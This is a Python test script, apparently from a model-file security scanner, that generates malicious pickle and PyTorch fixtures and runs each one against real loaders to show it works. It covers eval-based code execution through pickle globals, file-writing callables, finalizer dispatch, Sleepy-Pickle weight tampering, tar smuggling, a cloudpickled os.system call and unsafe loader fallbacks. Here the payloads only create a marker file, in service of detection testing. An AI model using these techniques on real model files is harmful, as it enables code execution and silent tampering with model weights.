#!/usr/bin/python3
"""Generate the "detection that generalises" malicious fixtures (issue 9), each proven live.

    /usr/bin/python3 test/gen_generalise_fixtures.py

One fixture per class of held-out miss: unknown callables invoked at load (an eval sink in a
torch dependency, stdlib file writers, a classmethod of an allowlisted storage class, a
re-exported alias of a denylisted loader), dispatchers that run a callable later (finalizers,
executors), Sleepy-Pickle weight tampering, a tar whose first member is a zip with a payload
after it, pickled functions, and exception-oriented payloads (a loader that falls back to an
unsafe path when the safe one raises, threat catalogue section 26).

Writes test/fixtures/malicious/generalise/* and test/fixtures/manifest-generalise.json.
Payloads only create a marker file ($MODELGATE_MARKER, or the relative name
"modelgate-marker" in the loader's fresh working directory). Weight tampering touches no file:
its proof is the loader seeing the weights changed, after which the proving harness (not the
payload) creates the marker. A fixture is written only once its proof succeeded.
"""
import glob
import io
import json
import os
import pickle
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from gen_fixtures import G, Call, asm, PY_CODE, PY_EXPR, BAKED  # noqa: E402

FIX = os.path.join(HERE, 'fixtures')
OUT = os.path.join(FIX, 'malicious', 'generalise')
MANIFEST = []
NESTED = '/tmp/modelgate-generalise-nested.pt'

MARK = "open(__import__('os').environ['MODELGATE_MARKER'],'a').close()"
LOADERS = {
    'pickle.load': "import pickle\nwith open(FILE,'rb') as f: pickle.load(f)",
    'torch.load': "import torch\ntorch.load(FILE)",
    'torch.load (tampering check)':
        "import torch\nsd = torch.load(FILE)\nif float(sd['weight'].flatten()[0]) == 42.0: " + MARK,
    'pickle.load (tampering check)':
        "import pickle\nsd = pickle.load(open(FILE,'rb'))\nif float(sd['weight'].flatten()[0]) == 42.0: " + MARK,
    'tarfile + torch.load/pickle.load of every member':
        "import tarfile, pickle, io, torch\nt = tarfile.open(FILE)\nfor m in t.getmembers():\n"
        " b = t.extractfile(m).read()\n"
        " torch.load(io.BytesIO(b)) if b[:2] == b'PK' else pickle.loads(b)",
    'pickle.load, then the pipeline is used':
        "import pickle, numpy\nm = pickle.load(open(FILE,'rb'))\nm.transform(numpy.ones((1, 1)))",
    'torch.load(weights_only=True), falling back to weights_only=False on UnpicklingError':
        "import torch, pickle\ntry:\n torch.load(FILE, weights_only=True)\n"
        "except pickle.UnpicklingError:\n torch.load(FILE, weights_only=False)",
    'numpy.load(allow_pickle=True)': "import numpy\nnumpy.load(FILE, allow_pickle=True)",
    'safetensors header parse, falling back to torch.load on error (the transformers pattern)':
        "import json, struct, torch\ntry:\n b = open(FILE,'rb').read()\n n = struct.unpack('<Q', b[:8])[0]\n"
        " json.loads(b[8:8+n])\nexcept Exception:\n torch.load(FILE, weights_only=False)",
}


def prove(data, loader, setup=None):
    with tempfile.TemporaryDirectory(prefix='mg-gen-') as td:
        path = os.path.join(td, 'candidate')
        with open(path, 'wb') as f:
            f.write(data)
        marker = os.path.join(td, 'marker-from-env')
        env = dict(os.environ, MODELGATE_MARKER=marker, TORCH_HOME=os.path.join(td, 'torch-home'))
        work = os.path.join(td, 'cwd')
        os.mkdir(work)
        if setup:
            setup()
        code = 'FILE = %r\n' % path + LOADERS[loader]
        r = subprocess.run([sys.executable, '-c', code], cwd=work, env=env, timeout=180,
                           stdin=subprocess.DEVNULL, capture_output=True, text=True)
        for _ in range(30):
            if os.path.exists(marker) or glob.glob(os.path.join(work, BAKED + '*')):
                return True, r.returncode, ''
            time.sleep(0.1)
        return False, r.returncode, (r.stderr.strip().splitlines() or [''])[-1]


def W(name, data, technique, catalogue, loader='pickle.load', fmt='pickle', setup=None):
    ok, rc, err = prove(data, loader, setup)
    if not ok:
        sys.exit('NOT PROVEN: %s (rc=%s) %s' % (name, rc, err))
    with open(os.path.join(OUT, name), 'wb') as f:
        f.write(data)
    MANIFEST.append({'file': 'malicious/generalise/' + name, 'label': 'malicious', 'format': fmt,
                     'technique': technique, 'catalogue': catalogue, 'loader': loader, 'proven': True})
    print('  proven  %-45s (loader rc=%s)' % (name, rc))


def fixed_zip(data):
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as dst:
        for info in src.infolist():
            zi = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            dst.writestr(zi, src.read(info.filename))
    return out.getvalue()


def torch_zip(obj, pickle_module=pickle):
    import torch
    bio = io.BytesIO()
    torch.save(obj, bio, pickle_module=pickle_module)
    return fixed_zip(bio.getvalue())


def torch_zip_with(data_pkl):
    """A real torch.save zip of a small dict with archive/data.pkl replaced."""
    src = zipfile.ZipFile(io.BytesIO(torch_zip({'a': 1})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        for info in src.infolist():
            d = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                d = data_pkl
            z.writestr(zipfile.ZipInfo(info.filename, (1980, 1, 1, 0, 0, 0)), d)
    return out.getvalue()


class Reduce:
    """An object that pickles as fn(*args)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args

    def __call__(self, *args):  # the pickler insists that a reduce callable be callable
        raise NotImplementedError


def unknown_invoked():
    W('sympy_sympify_eval.pkl', asm(Call(G('sympy.core.sympify', 'sympify'), PY_EXPR)),
      'sympy.sympify(<expression>): eval of a string in a library that ships as a torch dependency', '3.1.6')
    W('mailbox_mbox_create.pkl', asm(Call(G('mailbox', 'mbox'), BAKED)),
      'mailbox.mbox(path): a standard-library class whose constructor creates the file', '3.1.8')
    W('wave_open_write.pkl', asm(Call(G('wave', 'open'), BAKED, 'wb')),
      'wave.open(path, "wb"): a standard-library reader/writer that creates the file', '3.1.8')
    W('untyped_storage_from_file_dotted.pkl',
      asm(Call(G('torch.storage', 'UntypedStorage.from_file'), BAKED, True, 8)),
      'STACK_GLOBAL("torch.storage", "UntypedStorage.from_file")(path, True, 8): a classmethod of an '
      'allowlisted storage class creates a shared file', '3.1.9')
    W('untyped_storage_from_file_getattr.pkl',
      asm(Call(Call(G('builtins', 'getattr'), G('torch.storage', 'UntypedStorage'), 'from_file'), BAKED, True, 8)),
      'getattr(torch.storage.UntypedStorage, "from_file")(path, True, 8)', '3.1.9')

    def nested():
        import torch
        torch.save(Reduce(eval, PY_EXPR), NESTED, _use_new_zipfile_serialization=True)
    W('model_zoo_load_url_alias.pkl', asm(Call(G('torch.utils.model_zoo', 'load_url'), 'file://' + NESTED)),
      'torch.utils.model_zoo.load_url is torch.hub.load_state_dict_from_url re-exported: it downloads and '
      'torch.loads a URL', '3.1.5', setup=nested)


def dispatchers():
    W('weakref_finalize_mbox.pkl',
      asm(Call(G('weakref', 'finalize'), G('collections', 'OrderedDict'), G('mailbox', 'mbox'), BAKED)),
      'weakref.finalize(OrderedDict, mailbox.mbox, path): the finalizer runs the callable at exit', '3.3.26')
    pool = Call(G('concurrent.futures.thread', 'ThreadPoolExecutor'), 1)
    W('threadpool_submit_mbox.pkl',
      asm(Call(Call(G('builtins', 'getattr'), pool, 'submit'), G('mailbox', 'mbox'), BAKED)),
      'ThreadPoolExecutor(1).submit(mailbox.mbox, path): an executor runs the callable it is handed', '3.3.26')


def tampering():
    import numpy as np
    import torch
    w = torch.zeros(2, 2)
    W('sleepy_init_constant.pt', torch_zip({'weight': w, '_': Reduce(torch.nn.init.constant_, w, 42.0)}),
      'Sleepy Pickle: torch.nn.init.constant_(weight, 42.0) overwrites a tensor of the checkpoint at load',
      '3.3.27', loader='torch.load (tampering check)', fmt='pytorch')
    w = torch.zeros(2, 2)
    W('sleepy_tensor_fill.pt', torch_zip({'weight': w, '_': Reduce(w.fill_, 42.0)}),
      'Sleepy Pickle: getattr(weight, "fill_")(42.0) writes into the checkpoint tensor at load',
      '3.3.27', loader='torch.load (tampering check)', fmt='pytorch')
    w = torch.zeros(2, 2)
    W('sleepy_narrow_copy.pt',
      torch_zip({'weight': w, '_': Reduce(Reduce(getattr, Reduce(w.narrow, 0, 0, 1), 'fill_'), 42.0)}),
      'Sleepy Pickle: weight.narrow(0, 0, 1).fill_(42.0) patches a slice of the weights',
      '3.3.27', loader='torch.load (tampering check)', fmt='pytorch')
    a = np.zeros((2, 2))
    W('sleepy_numpy_copyto.pkl',
      pickle.dumps({'weight': a, '_': Reduce(np.copyto, a, np.full((2, 2), 42.0))}, protocol=4),
      'Sleepy Pickle: numpy.copyto(weight, values) overwrites an array of the pickle at load',
      '3.3.27', loader='pickle.load (tampering check)')


def archives():
    clean = torch_zip({'w': [1.0, 2.0]})
    evil = asm(Call(G('mailbox', 'mbox'), BAKED))
    for name, mode in [('tar_zip_first_then_pickle.tar', 'w'), ('tar_zip_first_then_pickle.tar.gz', 'w:gz')]:
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode=mode, format=tarfile.USTAR_FORMAT) as t:
            for mname, d in [('release/model.pt', clean), ('release/extra.pkl', evil)]:
                ti = tarfile.TarInfo(mname)
                ti.size, ti.mtime = len(d), 0
                t.addfile(ti, io.BytesIO(d))
        data = bio.getvalue()
        if mode == 'w:gz':
            data = data[:4] + b'\x00\x00\x00\x00' + data[8:]  # gzip mtime 0
        W(name, data, 'tar whose first member is a torch zip checkpoint; the malicious pickle comes after it',
          '3.2.22', loader='tarfile + torch.load/pickle.load of every member', fmt='tar')


def pickled_functions():
    import cloudpickle
    from sklearn.preprocessing import FunctionTransformer
    ns = {}
    exec("def f(x):\n    __import__('os').system('touch \"$MODELGATE_MARKER\"')\n    return x\n", ns)
    ft = FunctionTransformer(ns['f'])
    W('cloudpickle_functiontransformer_os_system.pkl', cloudpickle.dumps(ft, protocol=4),
      'FunctionTransformer whose cloudpickled function calls os.system when the pipeline is used',
      '3.1.7', loader='pickle.load, then the pipeline is used')


def exception_oriented():
    evil = asm(Call(G('mailbox', 'mbox'), BAKED), proto=2)
    W('eop_weights_only_fallback.pt', torch_zip_with(evil),
      'exception-oriented: weights_only=True raises UnpicklingError on the unsupported global, and the loader '
      '(as Stanza did) retries with weights_only=False, which runs it', '3.3.26',
      loader='torch.load(weights_only=True), falling back to weights_only=False on UnpicklingError', fmt='pytorch')
    W('eop_safetensors_fallback.safetensors', torch_zip_with(evil),
      'exception-oriented: a ".safetensors" that is a torch checkpoint; the safetensors parse raises and the '
      'loader falls back to torch.load', '3.3.26',
      loader='safetensors header parse, falling back to torch.load on error (the transformers pattern)', fmt='pytorch')
    W('eop_numpy_load_not_npy.npy', evil,
      'exception-oriented: a ".npy" that is not an npy file; numpy.load(allow_pickle=True) falls back to '
      'pickle.load', '3.3.26', loader='numpy.load(allow_pickle=True)')


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in glob.glob(os.path.join(OUT, '*')):
        os.remove(old)
    unknown_invoked()
    dispatchers()
    tampering()
    archives()
    pickled_functions()
    exception_oriented()
    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(FIX, 'manifest-generalise.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=1, ensure_ascii=False)
        f.write('\n')
    if os.path.exists(NESTED):
        os.remove(NESTED)
    print('%d generalisation fixtures, all proven' % len(MANIFEST))


if __name__ == '__main__':
    main()
